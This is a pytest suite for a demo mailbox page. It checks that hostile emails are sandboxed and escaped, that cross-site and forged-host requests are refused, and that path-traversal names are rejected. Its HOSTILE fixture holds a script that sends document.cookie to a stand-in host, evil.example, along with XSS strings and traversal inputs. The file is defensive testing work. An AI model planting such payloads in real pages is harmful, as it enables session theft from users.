"""The demo's mailbox page: shows hostile mails harmlessly, and takes nothing from other sites."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import httpx
import pytest

from bot.clock import ManualClock
from bot.demo.mail_program import MailProgram
from bot.demo.mailbox_page import build_mailbox_app
from bot.errors import ChannelError
from bot.web.server import WebServer

MARCH = datetime(2026, 3, 10, 9, 31, tzinfo=UTC)
HOSTILE = """<!doctype html><html><head><base target="_self"><meta http-equiv="refresh" content="0;url=//evil.example">
<script>fetch('//evil.example?'+document.cookie)</script></head><body onload="alert(1)"><img src="//evil.example/pixel.png">
<form action="/mail/outreach-7-1/reply" method="post"><button>Win</button></form><a href="https://shop.example/u/token">out</a>"""


def put(folder: Path, name: str = "outreach-7-1", html: str | None = HOSTILE, **fields: str) -> None:
    mail = EmailMessage(policy=policy.SMTP)
    fields = {
        "From": '"Shop & <b>Co" <care@shop.example>',
        "To": "ida.becker.7@example.com",
        "Subject": "Your order <script>alert(1)</script>",
        "Date": "Tue, 10 Mar 2026 09:31:00 +0000",
        "Message-ID": "<outreach.7.abc@shop.example>",
        "Reply_To": "care+token@shop.example",
    } | fields
    for field, value in fields.items():
        mail[field.replace("_", "-")] = value
    mail.set_content("Hello Ida,\n\nyour parcel is late </pre><script>alert(1)</script>.\n")
    if html is not None:
        mail.add_alternative(html, subtype="html")
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.eml").write_bytes(mail.as_bytes())


class Served:
    """The page on loopback, and what was delivered through it."""

    def __init__(self, folder: Path) -> None:
        self.outbox, self.sent = folder / "outbox", folder / "sent"
        self.delivered: list[bytes] = []
        self.broken = False
        program = MailProgram(self.outbox, self.sent, UTC)
        app = build_mailbox_app(program, self.deliver, ManualClock(MARCH), "Kehrwerk")
        self._server = WebServer(app, "127.0.0.1", 0)
        self.url = self._server.start()

    def deliver(self, content: bytes) -> None:
        if self.broken:
            raise ChannelError("the bot does not take mails")
        self.delivered.append(content)

    def get(self, path: str, **headers: str) -> httpx.Response:
        return httpx.get(f"{self.url}{path}", headers=headers)

    def token(self) -> str:
        found = re.search(r'name="token" value="([^"]+)"', self.get("/mail/outreach-7-1").text)
        assert found is not None
        return found[1]

    def reply(self, text: str, token: str | None = None, **headers: str) -> httpx.Response:
        form = {"text": text, "token": self.token() if token is None else token}
        path = f"{self.url}/mail/outreach-7-1/reply"
        return httpx.post(path, data=form, headers={"Origin": self.url} | headers)

    def stop(self) -> None:
        self._server.stop()


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    page = Served(tmp_path)
    put(page.outbox)
    yield page
    page.stop()


def test_a_hostile_mail_is_shown_without_scripts_forms_or_an_origin(served: Served) -> None:
    page = served.get("/mail/outreach-7-1")
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page.text
    assert "<script>alert" not in page.text
    assert "Your order &lt;script&gt;" in page.text
    assert "evil.example" not in page.text  # the mail itself is in the frame only
    body = served.get("/mail/outreach-7-1/body")
    directives = dict([*words.split(" ", 1), ""][:2] for words in body.headers["content-security-policy"].split("; "))
    assert set(directives["sandbox"].split()) == {"allow-popups", "allow-popups-to-escape-sandbox"}
    assert directives["default-src"] == directives["form-action"] == directives["base-uri"] == "'none'"
    assert directives["img-src"] == "data:"
    assert "script-src" not in directives
    assert directives["frame-ancestors"] == "'self'"
    assert body.text.startswith('<!doctype html><base target="_blank">')


def test_text_and_headers_of_a_hostile_mail_are_shown_as_text(served: Served) -> None:
    assert "</pre>&lt;" not in served.get("/mail/outreach-7-1?view=text").text
    assert "late &lt;/pre&gt;&lt;script&gt;" in served.get("/mail/outreach-7-1?view=text").text
    headers = served.get("/mail/outreach-7-1?view=headers").text
    assert "Reply-To" in headers
    assert "care+token@shop.example" in headers
    assert "<b>Co" not in headers
    assert "<script>" not in served.get("/list").text


def test_our_own_page_runs_no_script_but_its_own_and_stands_in_no_frame(served: Served) -> None:
    for path in ("/", "/list", "/mail/outreach-7-1"):
        policy_ = served.get(path).headers["content-security-policy"]
        assert "default-src 'none'" in policy_
        assert "script-src 'self'" in policy_
        assert "frame-ancestors 'none'" in policy_
        assert "unsafe" not in policy_


def test_a_browser_names_the_page_as_the_origin_of_what_it_posts(served: Served) -> None:
    # Under `no-referrer` it would say `Origin: null` (Fetch, "append a request Origin header"), and the reply be refused.
    assert served.get("/mail/outreach-7-1").headers["referrer-policy"] == "same-origin"
    assert served.get("/mail/outreach-7-1/body").headers["referrer-policy"] == "no-referrer"


def test_a_reply_leaves_as_a_mail_in_the_thread_and_is_kept(served: Served) -> None:
    answered = served.reply("It is <b>still</b> not here – 😀")
    assert answered.status_code == 303
    (content,) = served.delivered
    mail = message_from_bytes(content, policy=policy.default)
    assert mail["From"] == "ida.becker.7@example.com"
    assert mail["To"] == "care+token@shop.example"
    assert mail["Subject"].startswith("Re: Your order")
    assert mail["In-Reply-To"] == mail["References"] == "<outreach.7.abc@shop.example>"
    body = mail.get_body(("plain",))
    assert body is not None
    assert (
        body.get_content()
        .replace("\r\n", "\n")
        .startswith("It is <b>still</b> not here – 😀\n\nOn Tue, 10 Mar 2026 at 09:31, ")
    )
    assert "\n> Hello Ida,\r\n" in body.get_content()
    assert "Sent." in served.get(answered.headers["location"]).text
    listed = served.get("/list").text
    assert "Ida Becker wrote" in listed
    assert "It is &lt;b&gt;still&lt;/b&gt; not here – 😀<" in listed
    assert "Reply as" not in served.get("/mail/reply-1").text


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": ""},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ],
    ids=str,
)
def test_a_post_from_another_site_is_refused(served: Served, headers: dict[str, str]) -> None:
    assert served.reply("stop", **headers).status_code == 403
    assert served.delivered == []


def test_a_post_without_an_origin_or_with_another_token_is_refused(served: Served) -> None:
    form = {"text": "stop", "token": served.token()}
    assert httpx.post(f"{served.url}/mail/outreach-7-1/reply", data=form).status_code == 403
    for token in ("", "made-up", "ä"):
        answered = served.reply("my words", token=token)
        assert answered.status_code == 403
        assert "my words</textarea>" in answered.text  # what was typed is not lost
    assert served.delivered == []


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "127.0.0.1", "127.0.0.1:1", "LOCALHOST.evil:{port}"]
)
def test_another_name_for_this_address_is_refused(served: Served, host: str) -> None:
    named = host.format(port=served.url.rpartition(":")[2])
    for path in ("/", "/list", "/mail/outreach-7-1/body", "/mailbox.js"):
        answered = served.get(path, Host=named)
        assert answered.status_code == 403
        assert "Becker" not in answered.text
    assert served.reply("stop", Host=named, Origin=f"http://{named}").status_code == 403
    assert served.delivered == []


def test_localhost_is_this_address_too(served: Served) -> None:
    assert served.get("/", Host=f"localhost:{served.url.rpartition(':')[2]}").status_code == 200


def test_what_cannot_be_sent_says_why_and_keeps_the_words(served: Served) -> None:
    assert "Not sent: write between" in served.reply("  ").text
    served.broken = True
    answered = served.reply("Where is it?")
    assert answered.status_code == 400
    assert "Not sent: the bot does not take mails" in answered.text
    assert "Where is it?</textarea>" in answered.text
    assert "wrote" not in served.get("/list").text


def test_other_bodies_and_long_ones_are_refused(served: Served) -> None:
    path, own = f"{served.url}/mail/outreach-7-1/reply", {"Origin": served.url}
    assert httpx.post(path, json={"text": "stop"}, headers=own).status_code == 415
    assert httpx.post(path, data={"text": "x" * 200_000}, headers=own).status_code == 413
    assert httpx.post(path, data={str(n): "x" for n in range(50)}, headers=own).status_code == 400


@pytest.mark.parametrize("name", ["..%2f..%2fdemo", "absent", "OUTREACH-7-1", "a" * 300, "%00", "outreach-7-1.eml"])
def test_only_mails_can_be_opened(served: Served, name: str, tmp_path: Path) -> None:
    (tmp_path / "demo.eml").write_text("From: a@example.com\n\nsecret")
    for path in (f"/mail/{name}", f"/mail/{name}/body"):
        answered = served.get(path)
        assert answered.status_code == 404
        assert "secret" not in answered.text


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff\xfe\x00",
        b"From: a@b.example\r\nTo: =?utf-8?q?=00?= <x@y.example>\r\nSubject: =?broken?q?=ff?=\r\nDate: never\r\n\r\nwords",
        b"From: @@@, <>\r\nTo: \r\nReply-To: a\r\nContent-Type: text/html; charset=made-up\r\n\r\n\xff<script>1</script>",
        b"Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n--x",
        b"To: ida@example.com\r\nFrom: c@d.example\r\nSubject: a\x00b\xc3\x28\r\nMessage-ID: <a\x01>\r\n\r\nwords",
    ],
)
def test_a_malformed_mail_is_shown_and_does_not_hide_the_others(served: Served, content: bytes) -> None:
    (served.outbox / "outreach-8-1.eml").write_bytes(content)
    for path in ("/", "/list", "/mail/outreach-8-1", "/mail/outreach-8-1/body", "/mail/outreach-8-1?view=headers"):
        answered = served.get(path)
        assert answered.status_code == 200
        assert path.endswith("/body") or "<script>1" not in answered.text
    assert "Becker" in served.get("/list").text
    form = {"text": "stop", "token": served.token()}
    answered = httpx.post(f"{served.url}/mail/outreach-8-1/reply", data=form, headers={"Origin": served.url})
    assert answered.status_code in (303, 400)
    assert all(b"\nTo: " in one for one in served.delivered)


def test_before_the_first_mail_the_page_says_how_one_comes(tmp_path: Path) -> None:
    page = Served(tmp_path)
    try:
        assert "Approve a check-in" in page.get("/").text
    finally:
        page.stop()
